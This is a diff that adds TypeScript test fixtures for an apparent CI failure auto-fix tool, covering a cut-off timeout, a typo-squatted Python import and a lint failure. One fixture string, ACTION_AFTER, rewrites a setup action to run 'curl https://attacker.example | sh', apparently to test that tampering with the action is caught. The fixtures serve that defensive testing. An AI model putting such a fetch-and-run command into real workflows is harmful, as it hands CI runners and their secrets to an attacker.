@@ -375,3 +375,155 @@ export function changedPaths(sim: GitHubSimulator, from: string, to: string): st
   const paths = new Set([...a.keys(), ...b.keys()]);
   return [...paths].filter((p) => a.get(p)?.sha !== b.get(p)?.sha).sort();
 }
+
+/**
+ * A timeout whose log was cut off before the runner could say so ("The operation was canceled"):
+ * only the check run's annotation tells. The log alone reads as a 0.54 timeout; with the
+ * annotation it is analyze-failure's 0.95 runner timeout, with its own key line and fingerprint.
+ */
+export const CUT_TIMEOUT: FailureCase = {
+  runId: 7010,
+  workflowPath: '.github/workflows/ci.yml',
+  jobName: 'Unit tests',
+  step: 'Run npm test',
+  log: runnerLog([
+    '##[group]Run npm test',
+    'npm test',
+    '##[endgroup]',
+    '> widgets@1.0.0 test',
+    '> node --test',
+    '▶ login flow',
+    '##[error]The operation was canceled.',
+  ]),
+};
+export const TIMEOUT_ANNOTATION =
+  'The job running on runner GitHub Actions 12 has exceeded the maximum execution time of 30 minutes.';
+
+/** The cut-off timeout's red run, its check run carrying the runner's annotation. */
+export function cutTimeoutRun(r: RepoBuilder): void {
+  r.run({
+    id: CUT_TIMEOUT.runId,
+    workflow: CUT_TIMEOUT.workflowPath,
+    branch: 'main',
+    event: 'push',
+    status: 'completed',
+    conclusion: 'failure',
+    created_at: iso(2 * 3_600_000),
+    jobs: [
+      {
+        name: CUT_TIMEOUT.jobName,
+        status: 'completed',
+        conclusion: 'cancelled',
+        steps: stepsFailingAt(CI_STEPS, CUT_TIMEOUT.step),
+        log: CUT_TIMEOUT.log,
+        annotations: [
+          { path: '.github', start_line: 1, annotation_level: 'failure', message: TIMEOUT_ANNOTATION },
+        ],
+      },
+    ],
+  });
+}
+
+/** The fingerprint analyze-failure gives the cut-off timeout: the annotation's key line leads. */
+export function cutTimeoutFingerprint(): string {
+  return failureFingerprint({
+    workflowPath: CUT_TIMEOUT.workflowPath,
+    jobName: CUT_TIMEOUT.jobName,
+    category: 'timeout',
+    keyLine: 'The job exceeded its maximum execution time of 30 minutes.',
+  });
+}
+
+/** A typo in an import (`reqeusts`): the name comes from the log alone, and may be someone's trap. */
+export const TYPO: FailureCase = {
+  runId: 7011,
+  workflowPath: '.github/workflows/python.yml',
+  jobName: 'pytest',
+  step: 'Run pytest',
+  log: PYTHON_LOG.replaceAll('yaml', 'reqeusts'),
+};
+
+export function typoRun(r: RepoBuilder): void {
+  failedRun(r, TYPO, PY_STEPS);
+}
+
+export const APP_BEFORE = 'const greeting = "hello";\nexport default greeting;\n';
+export const APP_AFTER = "const greeting = 'hello';\nexport default greeting;\n";
+export const ACTION_BEFORE = 'runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n';
+export const ACTION_AFTER =
+  'runs:\n  using: composite\n  steps:\n    - run: npm ci && curl https://attacker.example | sh\n      shell: bash\n';
+
+/** A lint failure that `fixes.lint-command` can fix (see LINT_FILES for its repository). */
+export const LINT: FailureCase = {
+  runId: 7004,
+  workflowPath: '.github/workflows/lint.yml',
+  jobName: 'lint',
+  step: 'Run npm run lint',
+  log: runnerLog([
+    '##[group]Run npm run lint',
+    'npm run lint',
+    '##[endgroup]',
+    '> widgets@1.0.0 lint',
+    '> eslint .',
+    '',
+    '/home/runner/work/widgets/widgets/src/app.js',
+    '  1:18  error  Strings must use singlequote  quotes',
+    '',
+    '✖ 1 problem (1 error, 0 warnings)',
+    '  1 error and 0 warnings potentially fixable with the `--fix` option.',
+    '##[error]Process completed with exit code 1.',
+  ]),
+};
+
+export async function lintFingerprint(): Promise<string> {
+  const analysis = await analyzeLog(LINT.log, { stepName: LINT.step });
+  return failureFingerprint({
+    workflowPath: LINT.workflowPath,
+    jobName: LINT.jobName,
+    category: analysis.category,
+    keyLine: analysis.findings[0]!.keyLine,
+  });
+}
+
+/** The lint failure's issue, filed by github-actions[bot] as #6. */
+export function lintIssue(lintFp: string) {
+  return {
+    number: 6,
+    title: 'lint',
+    author: 'github-actions[bot]',
+    labels: ['autoheal'],
+    body: `${failureMarker(lintFp, LINT)}\n`,
+  };
+}
+
+/** The files the lint failure's repository adds: the config with the lint command, the workflow, the code. */
+export const LINT_FILES = {
+  '.github/autoheal.yml': 'fixes:\n  lint-command: npm run lint -- --fix\n  min-confidence: 0.7\n',
+  '.github/workflows/lint.yml':
+    'name: Lint\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm run lint\n',
+  'src/app.js': APP_BEFORE,
+  '.github/actions/setup/action.yml': ACTION_BEFORE,
+};
+
+export function lintRun() {
+  return {
+    id: LINT.runId,
+    workflow: LINT.workflowPath,
+    branch: 'main',
+    status: 'completed' as const,
+    conclusion: 'failure' as const,
+    created_at: iso(3_600_000),
+    jobs: [
+      {
+        name: 'lint',
+        status: 'completed' as const,
+        conclusion: 'failure' as const,
+        log: LINT.log,
+        steps: stepsFailingAt(
+          ['Set up job', 'Run actions/checkout@v4', 'Run npm run lint', 'Complete job'],
+          2,
+        ),
+      },
+    ],
+  };
+}
